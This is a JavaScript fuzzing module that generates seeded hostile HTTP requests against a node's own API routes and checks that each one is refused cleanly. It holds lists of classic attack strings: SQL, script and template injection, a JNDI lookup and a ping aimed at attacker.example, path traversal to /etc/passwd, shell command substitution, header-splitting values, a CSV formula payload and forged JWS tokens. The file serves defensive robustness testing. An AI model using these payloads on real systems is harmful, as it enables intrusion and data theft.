// Hostile input against every public route of a node (issue 10, "Proving ground"): seeded,
// generated requests — malformed JSON, wrong types, huge or odd numbers, duplicate keys, unicode
// tricks, deep nesting, oversize bodies, injection strings, wrong content types, garbage path
// parameters and credentials — sent over a real socket, each answer judged.
//
// Plain ESM (with hostile-input.d.mts beside it) so the vitest suite
// (test/attacks/hostile-input.test.ts) and `scripts/hostile.mjs` (10,000 per route, for the
// chaos run) use the very same generator. Deterministic for a seed: a failure names its seed
// and index, and `--seed` replays it.
import { request as httpRequest } from 'node:http';
import { seededRandom } from '@kpx/node';

/** The node's seeded generator (mulberry32), with the helpers the cases need. */
export function createPrng(seed) {
  const next = seededRandom(seed);
  const int = (n) => Math.floor(next() * n);
  return {
    next,
    int,
    pick: (list) => list[int(list.length)],
    chance: (p) => next() < p,
  };
}

/** Strings that have broken parsers, databases, templates and terminals somewhere. */
export const injectionStrings = Object.freeze([
  "' OR '1'='1",
  "'; DROP TABLE certificates; --",
  '1; DELETE FROM audit_log',
  '" OR ""="',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '{{7*7}}',
  '${7*7}',
  '${jndi:ldap://attacker.example/a}',
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '$(reboot)',
  '`id`',
  '|| ping -c 1 attacker.example',
  '\r\nSet-Cookie: kpx_session=evil',
  '=HYPERLINK("http://attacker.example")',
  '@SUM(1+1)',
  '__proto__',
  'constructor',
  'kpx_00000000000000000000000000000000',
  '{"$ne":null}',
  '\\u0000',
  'null',
  'undefined',
  'NaN',
]);

/** Unicode that looks like something else, reorders, vanishes or is not valid on its own. */
export const unicodeTricks = Object.freeze([
  '\u202eRU-2026-000001', // right-to-left override
  'RU\u200b-2026-000001', // zero-width space
  'Р' + 'U-2026-000001', // Cyrillic Er, looks like P
  'ＲＵ-２０２６', // full-width
  'e\u0301', // combining accent (NFD)
  '\u0000',
  '\ufeff',
  '\ud800', // lone high surrogate
  '\udfff', // lone low surrogate
  '💎'.repeat(64),
  'a'.repeat(70_000),
  '\u0085\u2028\u2029',
  'I\u0307', // dotted I (case folding)
]);

const oddNumbers = Object.freeze([
  '1e309',
  '-1e309',
  '0.5',
  '-0.5',
  '1e-400',
  '123456789012345678901234567890e99',
]);

const hostileParams = Object.freeze([
  '..',
  '.',
  '%2e%2e',
  '..%2f..%2f..%2fetc%2fpasswd',
  '..%5c..%5cwindows',
  '%00',
  '%',
  '%zz',
  '%c0%af',
  '%ed%a0%80',
  '%e2%80%ae',
  '%0d%0aSet-Cookie:%20x=y',
  '__proto__',
  'constructor',
  'prototype',
  'null',
  '-1',
  '0',
  '9'.repeat(400),
  'A'.repeat(3000),
  "'%20OR%201=1--",
  '%3Cscript%3E',
  '%F0%9F%92%8E',
  '*',
  '%2a',
  'RU-2026-999999',
]);

const wrongContentTypes = Object.freeze([
  'text/plain',
  'application/xml',
  'text/html',
  'multipart/form-data; boundary=kpx',
  'application/x-www-form-urlencoded',
  'application/octet-stream',
  'application/jsonx',
  'json',
  '*/*',
  '',
]);

const malformedJsonTexts = Object.freeze([
  '{',
  '}',
  '{"a":}',
  '{"a":1,}',
  "{'a':1}",
  '{"a":NaN}',
  '{"a":Infinity}',
  '{"a":undefined}',
  '[1,2',
  '{"a":1}/*c*/',
  '{"a":1} {"b":2}',
  '\ufeff{"a":',
  '{"a":"\\x41"}',
  '{"a":"\\u12"}',
  '{"a":01}',
  '{"a":.5}',
  '{a:1}',
  'tru',
  '"unterminated',
  'nul',
]);

const resolve = (schema, doc) => {
  let s = schema;
  for (let i = 0; i < 16 && s?.$ref !== undefined; i++) {
    const name = s.$ref.replace('#/components/schemas/', '');
    s = doc.components?.schemas?.[name];
  }
  return s ?? {};
};

const typeOf = (schema) => {
  const types = Array.isArray(schema.type) ? schema.type : [schema.type];
  return {
    type: types.find((t) => t !== undefined && t !== 'null'),
    nullable: types.includes('null'),
  };
};

/**
 * A sample value of a JSON Schema (the OpenAPI request body) and the slots in it: the JSON path
 * of every value with its type, so a mutation knows what would be the wrong type there.
 */
function sampleOf(schema, doc, path, slots, depth) {
  const s = resolve(schema, doc);
  if (depth > 6) return 'x';
  const variant = s.anyOf?.[0] ?? s.oneOf?.[0] ?? s.allOf?.[0];
  if (variant !== undefined && s.type === undefined)
    return sampleOf(variant, doc, path, slots, depth);
  const { type, nullable } = typeOf(s);
  let value;
  if (s.const !== undefined) value = s.const;
  else if (Array.isArray(s.enum)) value = s.enum[0];
  else if (type === 'object' || s.properties !== undefined) {
    value = {};
    for (const [key, prop] of Object.entries(s.properties ?? {}))
      value[key] = sampleOf(prop, doc, [...path, key], slots, depth + 1);
  } else if (type === 'array')
    value = [sampleOf(s.items ?? {}, doc, [...path, 0], slots, depth + 1)];
  else if (type === 'integer') value = s.minimum ?? 1;
  else if (type === 'number') value = 1;
  else if (type === 'boolean') value = true;
  else value = s.examples?.[0] ?? s.example ?? 'x';
  slots.push({
    path,
    type: type ?? (typeof value === 'object' ? 'object' : typeof value),
    nullable,
    enum: s.enum,
  });
  return value;
}

/** The routes of an OpenAPI document (plus `/exchange/v1/messages`, always), as the generator needs them. */
export function routesOf(openApi) {
  const routes = [];
  for (const [path, operations] of Object.entries(openApi.paths ?? {})) {
    for (const [method, op] of Object.entries(operations)) {
      if (!['get', 'post', 'put', 'patch', 'delete'].includes(method)) continue;
      const content = op.requestBody?.content ?? {};
      const jsonSchema = content['application/json']?.schema;
      const params = (op.parameters ?? []).map((p) => {
        const schema = resolve(p.schema ?? {}, openApi);
        return {
          name: p.name,
          in: p.in,
          required: p.required === true,
          strict:
            p.in === 'path' ||
            Array.isArray(schema.enum) ||
            schema.pattern !== undefined ||
            p.required === true,
        };
      });
      const slots = [];
      const sample =
        jsonSchema === undefined ? undefined : sampleOf(jsonSchema, openApi, [], slots, 0);
      routes.push({
        method: method.toUpperCase(),
        path,
        roles: op['x-kpx-roles'] ?? ['public'],
        params,
        bodyTypes: Object.keys(content),
        bodyRequired: op.requestBody?.required === true,
        sample,
        slots,
      });
    }
  }
  if (!routes.some((r) => r.path === '/exchange/v1/messages' && r.method === 'POST'))
    routes.push({
      method: 'POST',
      path: '/exchange/v1/messages',
      roles: ['partner-node'],
      params: [],
      bodyTypes: ['application/jose', 'application/json'],
      bodyRequired: true,
      sample: { envelope: 'x' },
      slots: [{ path: ['envelope'], type: 'string', nullable: false }],
    });
  return routes;
}

/** How a route is named in reports: `POST /api/v1/certificates`. */
export const routeName = (route) => `${route.method} ${route.path}`;

const isProtected = (route) =>
  !route.roles.includes('public') && !route.roles.includes('partner-node');
const hasInput = (route) => route.bodyTypes.length > 0 || route.params.some((p) => p.in === 'path');

/** A value of the wrong JSON type for a slot, as JSON text: never acceptable there. */
function wrongValueText(slot, rng) {
  const byType = {
    string: ['12345', '-1', 'true', '[]', '{}', '["x"]', '{"$ne":null}', ...oddNumbers],
    integer: ['"1"', '1e309', '-1e309', '0.5', '[]', '{}', 'true', '"NaN"'],
    number: ['"1"', '1e309', '-1e309', '[]', '{}', 'true', '"NaN"'],
    boolean: ['"true"', '1', '0', '"yes"', '[]', '{}'],
    object: ['[]', '"x"', '0', 'true', '[{}]', ...oddNumbers],
    array: ['{}', '"x"', '0', 'true', '{"0":"x"}', ...oddNumbers],
  };
  const choices = [...(byType[slot.type] ?? byType.string)];
  if (!slot.nullable) choices.push('null');
  if (Array.isArray(slot.enum) && slot.type === 'string')
    choices.push(
      ...['"<script>"', '"ADMIN"', '""', '"\\u0000"', '"EdDSA "'].filter(
        (t) => !slot.enum.includes(JSON.parse(t)),
      ),
    );
  return rng.pick(choices);
}

const deepText = (depth, open, close, inner = '0') =>
  open.repeat(depth) + inner + close.repeat(depth);

/** Serialises `value` with the raw JSON text `replacement` at `path` (so non-JSON numbers survive). */
function withRawAt(value, path, replacement) {
  const marker = '\u0001kpx-raw\u0001';
  if (path.length === 0) return replacement;
  const copy = JSON.parse(JSON.stringify(value));
  let target = copy;
  for (const key of path.slice(0, -1)) target = target?.[key];
  if (target === null || typeof target !== 'object') return replacement;
  target[path[path.length - 1]] = marker;
  return JSON.stringify(copy).replace(JSON.stringify(marker), replacement);
}

/** Puts tricky strings into some string slots (decoration: the request is broken elsewhere). */
function decorate(sample, slots, rng) {
  const copy = JSON.parse(JSON.stringify(sample));
  const strings = slots.filter(
    (s) => s.type === 'string' && s.enum === undefined && s.path.length > 0,
  );
  for (let i = rng.int(4); i > 0 && strings.length > 0; i--) {
    const slot = rng.pick(strings);
    let target = copy;
    for (const key of slot.path.slice(0, -1)) target = target?.[key];
    if (target !== null && typeof target === 'object')
      target[slot.path[slot.path.length - 1]] = rng.pick([...injectionStrings, ...unicodeTricks]);
  }
  if (rng.chance(0.2) && copy !== null && typeof copy === 'object' && !Array.isArray(copy))
    // defineProperty makes even `__proto__` an own member, so it reaches the wire as a key.
    Object.defineProperty(
      copy,
      rng.pick(['__proto__', 'constructor', 'isAdmin', injectionStrings[0], '\u0000']),
      { value: { polluted: true }, enumerable: true, configurable: true, writable: true },
    );
  return copy;
}

/** A JSON body the route must refuse: the sample, decorated, with one slot of a wrong type. */
function brokenJsonBody(route, rng) {
  const sample = route.sample === undefined ? {} : decorate(route.sample, route.slots, rng);
  const slots =
    route.slots.length > 0 ? route.slots : [{ path: [], type: 'object', nullable: false }];
  const slot = rng.pick(slots);
  const kind = rng.int(5);
  if (kind === 0) {
    // Deep nesting where an object or array (or a scalar) belongs: the wrong type, very deep.
    const depth = rng.pick([64, 1000, 20_000, 60_000]);
    const raw = slot.type === 'array' ? deepText(depth, '{"a":', '}') : deepText(depth, '[', ']');
    return { kind: 'deep-nesting', text: withRawAt(sample, slot.path, raw) };
  }
  if (kind === 1 && slot.path.length > 0 && sample !== null && typeof sample === 'object') {
    // Duplicate key: parsers keep the last one, which is the wrong one.
    const top = slot.path[0];
    const topSlot = route.slots.find((s) => s.path.length === 1 && s.path[0] === top) ?? slot;
    const text = JSON.stringify(sample);
    const dup = `${JSON.stringify(String(top))}:${wrongValueText(topSlot, rng)}`;
    return {
      kind: 'duplicate-key',
      text: text === '{}' ? `{${dup},${dup}}` : `${text.slice(0, -1)},${dup}}`,
    };
  }
  if (kind === 2 && slot.type !== 'integer' && slot.type !== 'number') {
    return { kind: 'odd-number', text: withRawAt(sample, slot.path, rng.pick(oddNumbers)) };
  }
  if (kind === 3) {
    const root = rng.pick([
      '"x"',
      '42',
      '[]',
      'null',
      'true',
      '[{}]',
      JSON.stringify(rng.pick(injectionStrings)),
      JSON.stringify([route.sample]),
    ]);
    return { kind: 'root-type', text: root };
  }
  return { kind: 'wrong-type', text: withRawAt(sample, slot.path, wrongValueText(slot, rng)) };
}

/** A compact-JWS-shaped string that no key of the trust list signed. */
function hostileJws(rng, kids) {
  const b64 = (value) =>
    Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url');
  const payload = {
    id: rng.pick(['01900000-0000-7000-8000-000000000000', injectionStrings[0], 42]),
    type: rng.pick(['certificate.issued', 'statistics.return', '<script>']),
    from: rng.pick(['RU-MINFIN', 'EU-BE-ANTWERP', '']),
    to: rng.pick(['RU-MINFIN', 'EU-BE-ANTWERP', 'AE-KPO']),
    createdAt: rng.pick([
      '2026-03-02T09:00:00.000Z',
      '1970-01-01T00:00:00Z',
      '9999-12-31T23:59:59Z',
      'yesterday',
    ]),
    body: rng.pick([{}, null, { certificate: 'a.b.c' }, [1, 2]]),
  };
  const headers = [
    { alg: 'none', typ: 'kpx-message+jwt' },
    { alg: 'HS256', kid: rng.pick(kids) ?? 'k', typ: 'kpx-message+jwt' },
    { alg: 'EdDSA', kid: rng.pick(kids) ?? 'k', typ: 'kpx-message+jwt' },
    { alg: 'EdDSA', kid: rng.pick(injectionStrings), typ: 'kpx-message+jwt' },
    { alg: 'ES256', kid: 'x'.repeat(5000), typ: 'kpx-message+jwt' },
    { alg: 'EdDSA', kid: rng.pick(kids) ?? 'k', typ: 'kpx-receipt+jwt', crit: ['exp'] },
  ];
  const signature = rng.pick([
    '',
    b64('x'.repeat(64)),
    'A'.repeat(86),
    '!!!',
    b64(new Uint8Array(64)),
  ]);
  const forms = [
    () => `${b64(rng.pick(headers))}.${b64(payload)}.${signature}`,
    () => `${b64(rng.pick(headers))}.${b64(payload)}`,
    () => `${b64(rng.pick(headers))}.${b64(payload)}.${signature}.extra`,
    () => `${b64(rng.pick(headers))}.${b64('not json')}.${signature}`,
    () => `${b64('{"alg":"EdDSA","alg":"none"}')}.${b64(payload)}.${signature}`,
    () => `.${b64(payload)}.`,
    () => '...',
    () => rng.pick(injectionStrings),
    () => rng.pick(unicodeTricks),
    () => `${b64(rng.pick(headers))}.${'A'.repeat(rng.pick([10, 100_000]))}.${signature}`,
  ];
  return rng.pick(forms)();
}

/** Percent-encodes the UTF-8 bytes of `text` (a lone surrogate becomes U+FFFD, as on the wire). */
const encode = (text) =>
  Array.from(Buffer.from(text, 'utf8'), (b) =>
    /[A-Za-z0-9\-_.~]/.test(String.fromCharCode(b))
      ? String.fromCharCode(b)
      : `%${b.toString(16).toUpperCase().padStart(2, '0')}`,
  ).join('');

/** Fills a route's path template; `hostile` puts a garbage value in one parameter. */
function pathOf(route, rng, hostile) {
  const names = route.params.filter((p) => p.in === 'path').map((p) => p.name);
  const bad = hostile ? rng.pick(names) : undefined;
  let path = route.path;
  for (const name of names)
    path = path.replace(
      `{${name}}`,
      name === bad
        ? rng.pick(hostileParams)
        : encode(name === 'number' ? 'RU-2026-999999' : 'nobody-here'),
    );
  return path;
}

/** A query string: the route's own parameters (hostile values when `strict`) and junk. */
function queryOf(route, rng, hostileKnown) {
  const parts = [];
  let strict = false;
  for (const p of route.params.filter((q) => q.in === 'query')) {
    if (hostileKnown && p.strict && rng.chance(0.7)) {
      parts.push(
        `${p.name}=${encode(rng.pick([...injectionStrings, ...unicodeTricks.slice(0, 9), '-1', '1e309']))}`,
      );
      strict = true;
    } else if (p.required) parts.push(`${p.name}=2026-Q1`);
  }
  for (let i = rng.int(3); i > 0; i--)
    parts.push(
      rng.pick([
        `${encode(rng.pick(injectionStrings))}=${encode(rng.pick(injectionStrings))}`,
        'limit=1&limit=2',
        'limit[]=1',
        '__proto__[admin]=1',
        'cursor=%00',
        `x=${'y'.repeat(2000)}`,
        '%zz=1',
        '=',
        '&&&',
      ]),
    );
  return { query: parts.length === 0 ? '' : `?${parts.join('&')}`, strict };
}

/**
 * Credentials for a request: the route's own (so the body parser and validator are reached),
 * or none, garbage, or another role's (refused before anything else: strict).
 */
function authOf(route, rng, auth, allowValid) {
  const headers = {};
  if (!isProtected(route)) {
    if (rng.chance(0.2))
      headers.authorization = rng.pick([
        'Bearer kpx_forged',
        'Basic YWRtaW46YWRtaW4=',
        `Bearer ${'A'.repeat(4000)}`,
      ]);
    return { headers, strict: false, valid: true };
  }
  // A role of the route the target has a token for (a route only for, say, traders has none).
  const ownRole = route.roles.find((r) => auth.tokens[r] !== undefined);
  const canBeValid = route.roles.includes('session') || ownRole !== undefined;
  if (allowValid && canBeValid && rng.chance(0.65)) {
    if (route.roles.includes('session')) {
      headers.cookie = auth.session.cookie;
      headers['x-csrf-token'] = auth.session.csrfToken;
    } else headers.authorization = `Bearer ${auth.tokens[ownRole]}`;
    return { headers, strict: false, valid: true };
  }
  const wrongRoles = Object.keys(auth.tokens).filter((r) => !route.roles.includes(r));
  const pick = rng.int(6);
  if (pick === 0) {
    /* no credentials at all */
  } else if (pick === 1) headers.authorization = `Bearer kpx_${'0'.repeat(43)}`;
  else if (pick === 2)
    headers.authorization = rng.pick([
      'Basic YWRtaW46YWRtaW4=',
      'Bearer',
      'bearer  ',
      `Bearer ${rng.pick(injectionStrings).replace(/[\r\n]/g, '')}`,
      'Negotiate x',
    ]);
  else if (pick === 3)
    headers.cookie = `kpx_session=${rng.pick(['forged', 'A'.repeat(43), '../../', '%00'])}`;
  else if (pick === 4 && route.roles.includes('session'))
    headers.cookie = auth.session.cookie; // no CSRF token
  else if (pick === 4 && route.method === 'GET' && wrongRoles.length > 0)
    headers.authorization = `Bearer ${auth.tokens[rng.pick(wrongRoles)]}`;
  else if (wrongRoles.length > 0 && !route.roles.includes('session'))
    headers.authorization = `Bearer ${auth.tokens[rng.pick(wrongRoles)]}`;
  else if (route.roles.includes('session')) headers.authorization = `Bearer ${auth.tokens.admin}`;
  // A GET with a session cookie and no CSRF is allowed (safe method): not strict then.
  const strict = !(pick === 4 && route.method === 'GET' && route.roles.includes('session'));
  return { headers, strict, valid: false };
}

/**
 * One hostile request for `route`, deterministic for `(seed, index)`. `strict`: the answer must
 * be a 4xx problem; otherwise (junk only where the route may ignore it) anything but a 5xx, and
 * a problem when it is an error.
 */
export function hostileRequest(route, { seed, index, auth, limits, kids = [] }) {
  const rng = createPrng(
    (seed ^ Math.imul(index + 1, 0x9e3779b1) ^ hashText(routeName(route))) >>> 0,
  );
  const unsafeNoInput = route.method !== 'GET' && !hasInput(route);
  const credentials = authOf(route, rng, auth, !unsafeNoInput);
  const headers = { ...credentials.headers };
  let strict = credentials.strict;
  const kinds = [];
  const hasPathParams = route.params.some((p) => p.in === 'path');
  const hostilePath = hasPathParams && (route.bodyTypes.length === 0 || rng.chance(0.4));
  if (hostilePath) {
    strict = true;
    kinds.push('path-param');
  }
  const path = pathOf(route, rng, hostilePath);
  const q = queryOf(route, rng, rng.chance(0.6));
  if (q.strict) {
    strict = true;
    kinds.push('query');
  }
  let method = route.method;
  let body;
  if (rng.chance(0.04)) {
    // A method the path does not have.
    method = rng.pick(
      ['PUT', 'PATCH', 'DELETE', 'POST'].filter(
        (m) => m !== route.method && !route.otherMethods?.includes(m),
      ),
    );
    if (method !== undefined) {
      kinds.push('method');
      strict = true;
    } else method = route.method;
  }
  if (method !== 'GET' && route.bodyTypes.length > 0) {
    strict = true;
    const exchange = route.path === '/exchange/v1/messages';
    const limit = exchange ? limits.exchangeBytes : limits.apiBytes;
    const jsonType = rng.pick([
      'application/json',
      'application/json; charset=utf-8',
      'application/problem+json',
      'APPLICATION/JSON',
    ]);
    const roll = rng.int(20);
    if (roll === 0) {
      kinds.push('oversize');
      headers['content-type'] = route.bodyTypes[0];
      body = `{"x":"${'a'.repeat(limit + 1 + rng.int(1024))}"}`;
      if (rng.chance(0.5)) headers['transfer-encoding'] = 'chunked';
    } else if (roll <= 2) {
      kinds.push('content-type');
      const type = rng.pick(wrongContentTypes.filter((t) => !route.bodyTypes.includes(t)));
      if (type !== '') headers['content-type'] = type;
      body = exchange ? hostileJws(rng, kids) : JSON.stringify(route.sample ?? {});
    } else if (exchange) {
      kinds.push('jws');
      const jws = hostileJws(rng, kids);
      if (rng.chance(0.7)) {
        headers['content-type'] = 'application/jose';
        body = jws;
      } else {
        headers['content-type'] = jsonType;
        body = rng.pick([
          JSON.stringify({ envelope: jws }),
          `{"envelope":${wrongValueText({ type: 'string', nullable: false }, rng)}}`,
          rng.pick(malformedJsonTexts),
        ]);
      }
    } else if (route.bodyTypes.includes('text/csv') && rng.chance(0.3)) {
      kinds.push('csv');
      headers['content-type'] = 'text/csv';
      body = rng.pick([
        'period,carats\n2026-H1,1e309\n',
        'period,carats,valueUsd\n2026-H1,-1.00,"=cmd|\' /C calc\'!A0"\n',
        '"unterminated,\n',
        `${'a,'.repeat(5000)}\n`,
        'period,carats,valueUsd\n2026-H9,1.00,1.00\n2026-H9,1.00,1.00\n',
        '\u0000\u0001\u0002',
      ]);
    } else if (roll <= 5) {
      kinds.push('malformed-json');
      headers['content-type'] = jsonType;
      const text = rng.pick(malformedJsonTexts);
      body = rng.chance(0.3)
        ? Buffer.concat([Buffer.from(text), Buffer.from([0xc0, 0xaf, 0xff, 0xfe])])
        : text;
    } else {
      const broken = brokenJsonBody(route, rng);
      kinds.push(broken.kind);
      headers['content-type'] = jsonType;
      body = broken.text;
      if (rng.chance(0.1))
        body = Buffer.concat([Buffer.from(body), Buffer.from([0xff, 0xfe, 0xc0, 0x80])]);
    }
  } else if (method !== 'GET' && rng.chance(0.3)) {
    // A body where none is expected, with a JSON type: ignored or refused, never a crash.
    headers['content-type'] = 'application/json';
    body = rng.pick(malformedJsonTexts);
    kinds.push('unexpected-body');
  }
  if (kinds.length === 0) kinds.push(credentials.valid ? 'junk-query' : 'credentials');
  if (rng.chance(0.15))
    headers[
      rng.pick([
        'x-forwarded-for',
        'idempotency-key',
        'x-csrf-token',
        'kpx-protocol-version',
        'accept',
      ])
    ] = rng.pick([...injectionStrings, 'x'.repeat(300), '999999999999']).replace(/[\r\n]/g, '');
  return { method, path: path + q.query, headers, body, strict, kinds, valid: credentials.valid };
}

function hashText(text) {
  let h = 2166136261;
  for (let i = 0; i < text.length; i++) h = Math.imul(h ^ text.charCodeAt(i), 16777619);
  return h >>> 0;
}

/** Sends one request on a fresh connection, the path exactly as given (no client-side normalisation). */
export function sendRaw(baseUrl, req, timeoutMs = 60_000) {
  const url = new URL(baseUrl);
  return new Promise((resolvePromise) => {
    const headers = { ...req.headers };
    const bytes =
      req.body === undefined
        ? undefined
        : Buffer.isBuffer(req.body)
          ? req.body
          : Buffer.from(req.body);
    if (bytes !== undefined && headers['transfer-encoding'] === undefined)
      headers['content-length'] = String(bytes.length);
    const r = httpRequest(
      {
        host: url.hostname,
        port: url.port,
        method: req.method,
        path: req.path,
        headers,
        agent: false,
        timeout: timeoutMs,
        // The client address the server sees (127.0.0.2 is loopback too): flood tests need two.
        ...(req.localAddress === undefined ? {} : { localAddress: req.localAddress }),
      },
      (res) => {
        const chunks = [];
        res.on('data', (c) => chunks.push(c));
        res.on('end', () =>
          resolvePromise({
            status: res.statusCode ?? 0,
            headers: res.headers,
            body: Buffer.concat(chunks).toString('utf8'),
          }),
        );
        res.on('error', (error) =>
          resolvePromise({ status: 0, headers: {}, body: '', error: String(error) }),
        );
      },
    );
    r.on('timeout', () => r.destroy(new Error('timeout')));
    r.on('error', (error) =>
      resolvePromise({ status: 0, headers: {}, body: '', error: String(error) }),
    );
    if (bytes !== undefined) r.end(bytes);
    else r.end();
  });
}

/** Why an answer to a hostile request is wrong, or `undefined` when it is right. */
export function judge(req, res) {
  if (res.status === 0) return `no answer (${res.error})`;
  if (res.status >= 500) return `answered ${res.status}`;
  if (req.strict && (res.status < 400 || res.status >= 500))
    return `expected a 4xx, got ${res.status}`;
  if (res.status >= 400) {
    const type = String(res.headers['content-type'] ?? '');
    if (!type.startsWith('application/problem+json'))
      return `${res.status} without problem+json (${type})`;
    let code;
    try {
      code = JSON.parse(res.body).code;
    } catch {
      return `${res.status} problem that is not JSON`;
    }
    if (typeof code !== 'string' || !/^KPX_[A-Z0-9_]+$/.test(code))
      return `${res.status} problem without a KPX_ code`;
  }
  return undefined;
}

/**
 * Sends `perRoute` hostile requests to every route (a few in flight at once) and judges each.
 * Returns per-route counts of answers by status and every failure with what reproduces it.
 */
export async function runHostile({
  baseUrl,
  routes,
  perRoute,
  seed,
  auth,
  limits,
  kids = [],
  concurrency = 4,
  onRoute,
}) {
  const report = [];
  const failures = [];
  const methodsByPath = new Map();
  for (const r of routes)
    methodsByPath.set(r.path, [...(methodsByPath.get(r.path) ?? []), r.method]);
  for (const route of routes) {
    const withMethods = { ...route, otherMethods: methodsByPath.get(route.path) };
    const statuses = {};
    let next = 0;
    const worker = async () => {
      while (next < perRoute) {
        const index = next++;
        const req = hostileRequest(withMethods, { seed, index, auth, limits, kids });
        const res = await sendRaw(baseUrl, req);
        statuses[res.status] = (statuses[res.status] ?? 0) + 1;
        const reason = judge(req, res);
        if (reason !== undefined)
          failures.push({
            route: routeName(route),
            seed,
            index,
            reason,
            request: {
              method: req.method,
              path: req.path.slice(0, 300),
              kinds: req.kinds,
              body: req.body === undefined ? undefined : String(req.body).slice(0, 300),
            },
            answer: res.body.slice(0, 300),
          });
      }
    };
    await Promise.all(Array.from({ length: concurrency }, worker));
    const entry = { route: routeName(route), sent: perRoute, statuses };
    report.push(entry);
    onRoute?.(entry);
  }
  return { report, failures };
}
